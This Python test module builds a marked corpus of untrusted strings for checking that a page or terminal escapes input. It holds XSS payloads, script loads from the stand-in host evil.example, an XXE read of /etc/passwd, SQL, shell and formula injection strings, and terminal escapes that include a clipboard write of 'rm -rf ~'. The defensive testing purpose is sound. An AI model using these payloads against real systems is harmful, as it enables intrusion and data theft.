"""Texts that strangers send: markup, addresses, escapes of terminals, characters that hide; each with its own mark.

A text begins and ends with its mark, and whatever in it could become an element, a class, a variable of the page or an
address carries the mark too, so that a look at the page tells whether anything of it became more than text.
"""

import json
import re
from functools import cache
from typing import Final, NamedTuple

SHORT: Final = 450  # characters; what fits into a subject
MARK: Final = "zq"
_MARKUP: Final = """
<script id=§ class=§>window.§=1;alert("§")</script>
<SCRIPT SRC=//evil.example/§.js id=§></SCRIPT>
<script/x>window.§=1</script>
<scr<script>ipt>window.§=1</scr</script>ipt>
<script type=module id=§>import "https://evil.example/§.js"</script>
<img src=x id=§ class=§ onerror=window.§=alert("§")>
<img src=//evil.example/§.png id=§>
<img srcset="https://evil.example/§.png 1x" id=§>
<img/src=x/onerror=window.§=1/id=§>
<IMG SRC=JaVaScRiPt:window.§=1 id=§>
<img src=`x` onerror=window.§=1 id=§>
<image href=//evil.example/§ id=§>
<svg id=§ class=§ onload=window.§=1></svg>
<svg><script id=§>window.§=1</script></svg>
<svg><a xlink:href="javascript:window.§=1" id=§><text y=20>§</text></a></svg>
<svg><animate onbegin=window.§=1 attributeName=x dur=1s id=§>
<svg><set attributeName=onmouseover to=window.§=1 id=§>
<svg><use href="data:image/svg+xml,%3Csvg id=§ onload=window.§=1%3E#§" id=§></svg>
<svg><foreignObject id=§><iframe src=//evil.example/§></iframe></foreignObject></svg>
<svg><image href="https://evil.example/§" id=§></image></svg>
<svg><style>@import "//evil.example/§.css";</style><g id=§></svg>
<math id=§><mtext><table><mglyph><style><img src=x onerror=window.§=1></style></mglyph></table></mtext></math>
<math><maction actiontype=statusline xlink:href=javascript:window.§=1 id=§>§</maction></math>
<iframe src="javascript:window.§=1" id=§></iframe>
<iframe srcdoc="<script>parent.§=1</script>" id=§></iframe>
<iframe src=//evil.example/§ id=§></iframe>
<object data="javascript:window.§=1" id=§></object>
<object data=//evil.example/§ id=§></object>
<embed src=//evil.example/§ id=§>
<applet code=§ id=§></applet>
<portal src=//evil.example/§ id=§></portal>
<body onload=window.§=1 id=§ class=§>
<frameset onload=window.§=1 id=§><frame src=//evil.example/§></frameset>
<details open ontoggle=window.§=1 id=§><summary>§</summary></details>
<video autoplay onplay=window.§=1 id=§><source src=//evil.example/§.mp4 onerror=window.§=1></video>
<audio src=x onerror=window.§=1 id=§></audio>
<input autofocus onfocus=window.§=1 id=§ value=§>
<select autofocus onfocus=window.§=1 id=§><option>§</select>
<textarea autofocus onfocus=window.§=1 id=§></textarea>
<button formaction=javascript:window.§=1 id=§>§</button>
<form action=//evil.example/§ id=§><input name=a><button>go</button></form>
<isindex action=javascript:window.§=1 type=image id=§>
<marquee onstart=window.§=1 id=§>§</marquee>
<meter onmouseover=window.§=1 id=§>§</meter>
<a href="javascript:window.§=1" id=§ class=§>§</a>
<a href="java&#9;script:window.§=1" id=§>§</a>
<a href="data:text/html,<script>window.§=1</script>" id=§>§</a>
<a href=//evil.example/§ target=_top id=§ ping=//evil.example/§>§</a>
<base href=//evil.example/§/ id=§>
<link rel=stylesheet href=//evil.example/§.css id=§>
<link rel=prefetch href=//evil.example/§ id=§>
<link rel=import href=//evil.example/§ id=§>
<meta http-equiv=refresh content="0;url=//evil.example/§" id=§>
<meta http-equiv=Content-Security-Policy content="default-src *" id=§>
<style id=§>body{background:url(//evil.example/§)}</style>
<style>@import url(//evil.example/§.css);#§{}</style>
<div style="background:url(//evil.example/§)" id=§ class=§>§</div>
<div style="width:expression(window.§=1)" id=§>§</div>
<x-§ id=§ onclick=window.§=1>§</x-§>
<template id=§><script>window.§=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.§=1 id=§>"></noscript>
<!--><script id=§>window.§=1</script>-->
<!--[if gte IE 4]><script id=§>window.§=1</script><![endif]-->
<![CDATA[<script id=§>window.§=1</script>]]>
<?xml version="1.0"?><x xmlns:xlink="http://www.w3.org/1999/xlink" id="§"/>
<!DOCTYPE html [<!ENTITY § SYSTEM "file:///etc/passwd">]>&§;
<dialog open id=§ class=§>§</dialog>
<table><td background=//evil.example/§ id=§></table>
<keygen autofocus onfocus=window.§=1 id=§>
<h1 id=§ class=§>§</h1></main></body></html>
"""
_BREAKOUTS: Final = """
" onmouseover=window.§=1 id=§ x="
' onfocus=window.§=1 autofocus id=§ x='
` onerror=window.§=1 id=§ `
"><img src=x onerror=window.§=1 id=§>
'><svg/onload=window.§=1 id=§>
--><script id=§>window.§=1</script>
</title><script id=§>window.§=1</script>
</textarea><script id=§>window.§=1</script>
</style><script id=§>window.§=1</script>
</pre></code><b id=§ class=§>§</b>
</script><script id=§>window.§=1</script>
</svg></math><i id=§>§</i>
*/window.§=1//
";window.§=1;//
';window.§=1;'
\\';window.§=1;//
\\");window.§=1;//
}});window.§=1;({{
]]>"'>--><u id=§>§</u>
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk=window.§=1 )//</stYle/</titLe/--!>\\x3csVg/<sVg/oNloAd=window.§=1//>
"""
_ADDRESSES: Final = """
javascript:window.§=1
JaVaScRiPt:window.§=1//§
javascript&colon;window.§=1
java\tscript:window.§=1
\x01javascript:window.§=1
vbscript:msgbox("§")
data:text/html;base64,PHNjcmlwdD53aW5kb3cuej0xPC9zY3JpcHQ+#§
data:image/svg+xml,<svg onload=window.§=1 id=§>
data:,§
//evil.example/§
https://evil.example/§
http://evil.example:80/§?a=1&b=2#c
https://127.0.0.1@evil.example/§
https:\\\\evil.example\\§
\\\\evil.example\\§
file:///etc/passwd#§
ftp://evil.example/§
blob:https://evil.example/§
about:blank#§
view-source:https://evil.example/§
mailto:§@evil.example
ws://evil.example/§
/../../../§
#§
?q=§
"""
_TEMPLATES: Final = """
{{constructor.constructor("window.§=1")()}}
{{7*7}}§
${7*7}§
${{<%[%'"}}%\\.§
<%= 7*7 %>§
<% window.§=1 %>
#{7*7}§
{% raw %}§{% endraw %}
{{{§}}}
[[${7*7}]]§
*{7*7}§
@{§}
%{7*7}§
$(id)§
`id`§
<div ng-app ng-csp id=§>{{$eval.constructor('window.§=1')()}}</div>
<div v-html="'<b id=§>'" id=§></div>
<div x-data x-init="window.§=1" id=§></div>
<div hx-get=//evil.example/§ hx-trigger=load id=§></div>
%(§)s %s %n {0} {0.__class__} {§!r}
$§ ${§:-x} %§% !§!
"""
_ENTITIES: Final = """
&lt;script id=§&gt;window.§=1&lt;/script&gt;
&#60;script&#62;window.§=1&#60;/script&#62;
&#x3c;b id=§&#x3e;§
&#0000060b id=§&#0000062§
&amp;lt;b id=§&amp;gt;§
&nbsp;&shy;&zwnj;&lrm;&rlm;§
&lt&gt&amp&quot§
&NotAnEntity;&#xffffffff;&#0;§
%3Cscript%3Ewindow.§=1%3C/script%3E
%253Cb id=§%253E
+ADw-script+AD4-window.§=1+ADw-/script+AD4-
\\u003cscript\\u003ewindow.§=1\\u003c/script\\u003e
\\x3cb id=§\\x3e
\\74b id=§\\76
<\\x00b id=§>
\uff1cscript\uff1ewindow.§=1\uff1c/script\uff1e
\u2039b id=§\u203a
"""
_ENDS: Final = """
"}]}}{"position":1,"§":1}
\\"}}],"head":0}§
{"__proto__":{"§":1}}
__proto__
constructor.prototype.§
toString
hasOwnProperty
undefined
null
NaN
true
[object Object]
[]
{}
""
\\
\\\\
\\n\\t\\r\\0
data: {"§":1}
id: 1
event: caught_up
: comment
retry: 1
// §
/* §
<!-- §
-->
]]>
'; DROP TABLE tasks; --§
" OR ""="§
%' UNION SELECT '§
../../../../etc/passwd
..\\..\\windows\\§
/etc/passwd
~root/§
-rf
--help
; touch §
| cat §
&& echo §
> /tmp/§
$IFS§
"""
_FORMULAS: Final = """
=cmd|' /C calc'!§
=HYPERLINK("https://evil.example/§","§")
=IMPORTXML("https://evil.example/§","//a")
+1+1+cmd|§
-2+3+cmd|§
@SUM(1+1)*cmd|§
\t=1+1§
\"=1+1\";§
;=1+1§
"""
_ESCAPES: Final = (
    "\x1b[31mred§\x1b[0m", "\x1b[1;4;38;2;1;2;3mfine§\x1b[m", "\x1b[8mhidden§\x1b[28m", "\x1b[2J\x1b[Hhome§",
    "\x1b[1A\x1b[2Kover§", "\x1b[?1049halt§\x1b[?1049l", "\x1b[6nasked§", "\x1b[c§", "\x1b[?2004h§", "\x1b[?1000h§",
    "\x1b7saved§\x1b8", "\x1bcreset§", "\x1b(0line§\x1b(B", "\x1b#8§", "\x1bD\x1bM§", "\x1b]0;title §\x07after§",
    "\x1b]2;title §\x1b\\after§", "\x1b]8;;https://evil.example/§\x1b\\link§\x1b]8;;\x1b\\",
    "\x1b]8;id=§;javascript:1\x07l§\x1b]8;;\x07", "\x1b]52;c;cm0gLXJmIH4=\x07clip§", "\x1b]4;1;rgb:ff/ff/ff\x1b\\§",
    "\x1b]1337;File=name=§:AAAA\x07§", "\x1b]777;notify;§;x\x07§", "\x1bPq#0;2;0;0;0#0~~\x1b\\sixel§",
    "\x1bP+q544e\x1b\\dcs§", "\x1b_apc §\x1b\\a§", "\x1b^pm §\x1b\\p§", "\x1bXsos §\x1b\\s§", "\x9b31mc1 red§\x9b0m",
    "\x9d0;c1 title §\x9cafter§", "\x90q§\x9c", "\x1b[31;1\x1b[32mtwice§", "\x1b\x1b[31m§", "\x1b[999999999999Cfar§",
    "\x1b[200~pasted§\x1b[201~", "\x1b%Gutf§", "\x1b[38:2::1:2:3mcolons§", "\x1b[>4;2m§", "\x1b[!p§", "\x1b[3J§",
    "\x1bZ§",
)  # fmt: skip
UNSEEN: Final = (
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f",
    "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2062", "\u2063", "\u2064", "\ufeff", "\xad",
    "\u180e", "\u115f", "\u1160", "\u3164", "\u17b4", "\u17b5", "\u206a", "\u206f", "\ufff9", "\ufffa", "\ufffb",
    "\u2028", "\u2029", "\U000e0001", "\U000e0041", "\U000e007f",
)  # fmt: skip
_CONTROLS: Final = tuple(chr(each) for each in (*range(1, 9), *range(11, 27), *range(28, 32), *range(127, 160)))
_LETTERS: Final = (
    "Z" + "\u0301\u0302\u0303\u0304\u0305" * 20 + "algo§", "e\u0301 or \xe9 §", "\u0301\u0302 first §",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family §", "\U0001f3f3\ufe0f\u200d\U0001f308 flag §",
    "\U0001f44d\U0001f3ff hand §", "\U0001d54f \U0001d4c8\U0001d4b8\U0001d4c7\U0001d4be\U0001d4c5\U0001d4c9 §",
    "\u05e2\u05d1\u05e8\u05d9\u05ea \u05de\u05d9\u05de\u05d9\u05df \u05dc\u05e9\u05de\u05d0\u05dc §",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \ufdfd §",
    "\u0e44\u0e17\u0e22 \u0e17\u0e49\u0e32\u0e17\u0e32\u0e22 §", "\u65e5\u672c\u8a9e \uff76\uff80\uff76\uff85 §",
    "\u0130\u0131\u017fK §", "\u0440\u0430ypal \u03c1aypal §", "\ufffd\ufffe\uffff §", "\U0010ffff\U000f0000 §",
    "\ue000\uf8ff §", "\u3000wide\xa0space\u2003§", "\ufb01 \ufb00 \ufdfa §", "a\u0338b\u20e0 §",
    "\U0001f1e9\U0001f1ea §",
)  # fmt: skip
_LINES: Final = ("a§\rb§", "a§\r\nb§", "a§\x0bb§", "a§\x0cb§", "a§\x85b§", "a§\tb§", "a§\n\n\nb§", "   a§   ")


class Payload(NamedTuple):
    """One of the texts."""

    mark: str
    text: str


@cache
def corpus() -> tuple[Payload, ...]:
    """All that is short."""
    blocks = (_MARKUP, _BREAKOUTS, _ADDRESSES, _TEMPLATES, _ENTITIES, _ENDS, _FORMULAS)
    plain = [line for block in blocks for line in block.split("\n") if line]
    hidden = [f"hid{each}den§" for each in UNSEEN] + [f"con{each}trol§" for each in _CONTROLS]
    found = [*plain, *_ESCAPES, *hidden, *_LETTERS, *_LINES]
    return tuple(_made(number, text) for number, text in enumerate(found))


@cache
def long() -> tuple[Payload, ...]:
    """All that is long: 100 kB without and with a place to break, and what nests or repeats."""
    texts = (
        "x" * 100_000, "word " * 20_000, "<div id=§>" * 2_000, "[" * 10_000 + "]" * 10_000, "e\u0301" * 10_000,
        "&lt;" * 5_000, "\u202e" * 10_000, "\x1b[31m" * 4_000, "((" * 10_000, "\U0001f3f3\ufe0f\u200d\U0001f308" * 100,
    )  # fmt: skip
    return tuple(_made(900 + number, text) for number, text in enumerate(texts))


def _made(number: int, text: str) -> Payload:
    mark = f"{MARK}{number:03d}"
    return Payload(mark, f"{mark}a {text.replace('§', mark)} {mark}z")


def packed(most: int, *, apart: str = " ", leave_out: str = "") -> list[str]:
    """The short texts, as many together as fit into so many characters; without those that hold one of some."""
    found: list[str] = []
    for each in corpus():
        if len(each.text) > most or set(each.text) & set(leave_out):
            continue
        if found and len(found[-1]) + len(apart) + len(each.text) <= most:
            found[-1] += apart + each.text
        else:
            found.append(each.text)
    return found


_SEQUENCE: Final = re.compile(
    r"\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)|[PX^_][^\x1b]*\x1b\\|[ -/]+[0-~]|[0-Z\\-~])"
)
HIDDEN: Final = (  # also how JavaScript writes it
    r"[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b-\u200f\u2028-\u202e"
    r"\u2060-\u206f\u3164\ufeff\ufff9-\ufffb]"
)
_HIDDEN: Final = re.compile(HIDDEN + "|[\U000e0000-\U000e007f]")

# what shows nothing either, but belongs to ordinary letters, too: it may be shown as it is, or be named
_FAINT: Final = r"[\u034f\u180b-\u180f\u2800\ufe00-\ufe0f\uffa0]"


def visible(text: str) -> list[str]:
    """The parts of a text that a reader must see, whatever stands for the rest; escapes of terminals may go."""
    return [part for part in re.split(f"{_SEQUENCE.pattern}|{_HIDDEN.pattern}|{_FAINT}|\x1b", text) if part]


def as_json(text: str) -> list[str]:
    """The same, where the text stands as a string of JSON."""
    return visible(json.dumps(text, ensure_ascii=False)[1:-1])
